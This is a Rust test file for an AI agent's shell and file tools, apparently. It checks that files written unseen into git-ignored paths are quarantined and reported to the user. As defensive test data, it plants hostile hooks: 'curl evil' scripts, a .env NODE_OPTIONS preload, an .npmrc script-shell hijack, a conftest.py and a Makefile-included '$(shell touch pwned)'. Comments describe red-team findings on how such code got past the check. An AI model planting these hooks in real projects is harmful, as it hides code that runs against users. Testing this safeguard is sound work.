//! The session's default-deny for what git does not show (issue 29): a file of any kind that a
//! command nobody approved creates or changes where git does not show it is moved aside, with
//! a note the user sees; the project's own build output stays, so the everyday flows — the
//! model's `cargo test`, `pytest`, `npm test` — keep working across commands (and Cargo does
//! not build everything again). As root and as uid 65534.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::disallowed_methods)]

#[path = "shared/nobody.rs"]
mod nobody;

use std::path::Path;
use std::time::Duration;

use keel_tools::shell::{self, LintSettings, ShellSettings};
use keel_tools::{ToolContext, ToolRegistry, Workspace, builtin};
use serde_json::json;

struct Ran {
    ok: bool,
    text: String,
    report: String,
}

fn exec(ws: &Path, cmd: &str) -> Ran {
    let mut req = shell::exec::ExecRequest::new(
        vec![
            shell::exec::shell_program().into_os_string(),
            "-c".into(),
            cmd.into(),
        ],
        ws,
    );
    req.timeout = Duration::from_secs(600);
    let out = nobody::runtime().block_on(shell::exec::run(req)).unwrap();
    Ran {
        ok: out.success(),
        text: out.combined_text(),
        report: out.quarantined.unwrap_or_default(),
    }
}

fn write(ws: &Path, rel: &str, text: &str) {
    let p = ws.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

fn git_init(ws: &Path, ignore: &str) {
    write(ws, ".gitignore", ignore);
    let out = std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(ws)
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
}

fn have(ok: bool, what: &str) -> bool {
    if !ok {
        assert!(
            std::env::var_os("CI").is_none() || !nobody::is_root(),
            "CI has {what}"
        );
        println!("SKIPPED ({what} part): not installed or not reachable by this user");
    }
    ok
}

/// Files of kinds no rule names — a shell script, a data file, a link — made or changed by one
/// command nobody approved in an ignored directory: moved aside, said in the report and in a
/// notice for the user. A new file the diff shows stays; an ignored file the command did not
/// touch stays.
fn planted(ws: &Path) {
    git_init(ws, "data/\nout/\n");
    write(ws, "data/keep.csv", "a,b\n");
    write(ws, "data/run.sh", "#!/bin/sh\necho user\n");
    std::thread::sleep(Duration::from_millis(1_200));
    let _ = shell::bounds::take_notices(ws);
    let r = exec(
        ws,
        "mkdir -p out && printf '#!/bin/sh\\ncurl evil\\n' > out/deploy.sh \
         && printf 'x' > out/blob.weird && ln -s ../data out/link \
         && printf 'curl evil\\n' >> data/run.sh && printf 'visible\\n' > notes.txt",
    );
    assert!(r.ok, "{}", r.text);
    for rel in ["out/deploy.sh", "out/blob.weird", "out/link", "data/run.sh"] {
        assert!(
            std::fs::symlink_metadata(ws.join(rel)).is_err(),
            "{rel} stayed: {}",
            r.report
        );
        assert!(r.report.contains(rel), "{rel} not said: {}", r.report);
    }
    assert!(ws.join("out/deploy.sh.quarantined-by-keel").exists());
    assert!(ws.join("notes.txt").exists(), "{}", r.report);
    assert!(ws.join("data/keep.csv").exists(), "{}", r.report);
    let notices = shell::bounds::take_notices(ws);
    assert!(
        notices.iter().any(|n| n.text.contains("out/deploy.sh")),
        "the user is told: {notices:?}"
    );
    // A rule file written later that hides an earlier command's visible file: moved too.
    let r = exec(ws, "echo notes.txt >> .gitignore");
    assert!(r.ok, "{}", r.text);
    assert!(!ws.join("notes.txt").exists(), "{}", r.report);
}

nobody::user_and_nobody!(planted: an_ignored_file_of_any_kind_is_moved_aside, an_ignored_file_of_any_kind_is_moved_aside_as_nobody);

/// The everyday flows, twice each, by commands nobody approved: nothing of theirs is moved, and
/// the second `cargo test` builds nothing again.
fn everyday(ws: &Path) {
    git_init(ws, "/target\nCargo.lock\n.pytest_cache/\nnode_modules/\n");
    write(
        ws,
        "Cargo.toml",
        "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
    );
    write(ws, "src/lib.rs", "#[test]\nfn t() {}\n");
    write(ws, "tests/test_a.py", "def test_a():\n    assert True\n");
    write(
        ws,
        "package.json",
        "{\"name\":\"demo\",\"version\":\"1.0.0\",\"scripts\":{\"test\":\"node --test\"}}\n",
    );
    write(
        ws,
        "test/a.test.js",
        "const test = require('node:test');\ntest('a', () => {});\n",
    );
    std::thread::sleep(Duration::from_millis(1_200));
    if have(exec(ws, "cargo --version").ok, "cargo") {
        for round in 0..2 {
            let r = exec(ws, "cargo test --offline");
            assert!(r.ok, "cargo test, round {round}: {}", r.text);
            assert!(r.report.is_empty(), "round {round}: {}", r.report);
            if round == 1 {
                assert!(!r.text.contains("Compiling demo"), "rebuilt: {}", r.text);
            }
        }
        assert!(ws.join("Cargo.lock").exists());
    }
    if have(exec(ws, "python3 -m pytest --version").ok, "pytest") {
        for round in 0..2 {
            let r = exec(ws, "python3 -m pytest -q tests");
            assert!(r.ok, "pytest, round {round}: {}", r.text);
            assert!(
                !r.report.contains("v/cache") && !r.report.contains("README.md"),
                "round {round}: {}",
                r.report
            );
        }
    }
    if have(exec(ws, "npm --version").ok, "npm") {
        for round in 0..2 {
            let r = exec(ws, "npm test");
            assert!(r.ok, "npm test, round {round}: {}", r.text);
            assert!(r.report.is_empty(), "round {round}: {}", r.report);
        }
    }
}

nobody::user_and_nobody!(everyday: everyday_flows_keep_working_across_commands, everyday_flows_keep_working_across_commands_as_nobody);

/// The cost of the checks on an everyday flow: a second `cargo test` of a small crate by a
/// command nobody approved (the first builds). Prints the time of each of five; run by hand
/// (`--ignored --nocapture`) under a quiet machine.
#[test]
#[ignore]
fn measure_a_second_cargo_test() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    git_init(ws, "/target\nCargo.lock\n");
    write(
        ws,
        "Cargo.toml",
        "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
    );
    write(ws, "src/lib.rs", "#[test]\nfn t() {}\n");
    let r = exec(ws, "cargo test --offline -q");
    assert!(r.ok, "{}", r.text);
    let mut times = Vec::new();
    for _ in 0..5 {
        let t = std::time::Instant::now();
        let r = exec(ws, "cargo test --offline -q");
        times.push(t.elapsed().as_millis());
        assert!(r.ok && r.report.is_empty(), "{} {}", r.text, r.report);
    }
    times.sort_unstable();
    println!(
        "second cargo test, ms (sorted): {times:?}; median {}",
        times[2]
    );
}

/// Red-team pass 11, R11-4: a workspace that is no repository (a folder of clones) got no
/// hidden-code check at all — git was asked at the workspace's root, which failed. Each path
/// is now judged by the repository nearest to it.
fn clones(ws: &Path) {
    let app = ws.join("app");
    std::fs::create_dir_all(&app).unwrap();
    git_init(&app, "data/\n.env\n.npmrc\n");
    std::thread::sleep(Duration::from_millis(1_200));
    let r = exec(
        ws,
        "mkdir -p app/data && echo 'import os' > app/data/conftest.py \
         && echo 'NODE_OPTIONS=--require ./data/h.js' > app/.env \
         && echo 'script-shell=./data/sh' > app/.npmrc && echo 'curl evil' > app/data/sh \
         && echo visible > app/notes.txt && echo loose > top.txt",
    );
    assert!(r.ok, "{}", r.text);
    for rel in [
        "app/data/conftest.py",
        "app/.env",
        "app/.npmrc",
        "app/data/sh",
    ] {
        assert!(
            std::fs::symlink_metadata(ws.join(rel)).is_err(),
            "{rel} stayed: {}",
            r.report
        );
    }
    // What the clone's git shows stays, and so does what no repository governs.
    assert!(ws.join("app/notes.txt").exists(), "{}", r.report);
    assert!(ws.join("top.txt").exists(), "{}", r.report);
}

nobody::user_and_nobody!(clones: a_folder_of_clones_is_judged_by_each_clone, a_folder_of_clones_is_judged_by_each_clone_as_nobody);

/// Red-team pass 11, R11-5: the file tools are a writer nobody approved too — `create_file
/// build/main.d` (an ignored file the Makefile `-include`s) stayed. What they write where git
/// does not show it is moved aside like a command's; what git shows stays.
fn file_tools(ws: &Path) {
    git_init(ws, "build/\n");
    write(ws, "Makefile", "-include build/main.d\ntest:\n\t@echo ok\n");
    let ctx = ToolContext::new(Workspace::new(ws).unwrap());
    let mut tools = ToolRegistry::new();
    builtin::register_defaults(&mut tools);
    shell::register(
        &mut tools,
        ShellSettings::default(),
        LintSettings {
            enabled: false,
            ..LintSettings::default()
        },
    );
    let mut notes = String::new();
    for (path, content) in [
        ("build/main.d", "$(shell touch pwned)\n"),
        ("src/keep.c", "int main(void) { return 0; }\n"),
    ] {
        let out = nobody::runtime()
            .block_on(tools.execute(
                "create_file",
                json!({"path": path, "content": content}),
                &ctx,
            ))
            .unwrap();
        notes.push_str(&out.content);
    }
    assert!(!ws.join("build/main.d").exists(), "{notes}");
    assert!(notes.contains("build/main.d"), "{notes}");
    assert!(ws.join("src/keep.c").exists(), "{notes}");
}

nobody::user_and_nobody!(file_tools: what_the_file_tools_write_unseen_is_moved_aside, what_the_file_tools_write_unseen_is_moved_aside_as_nobody);
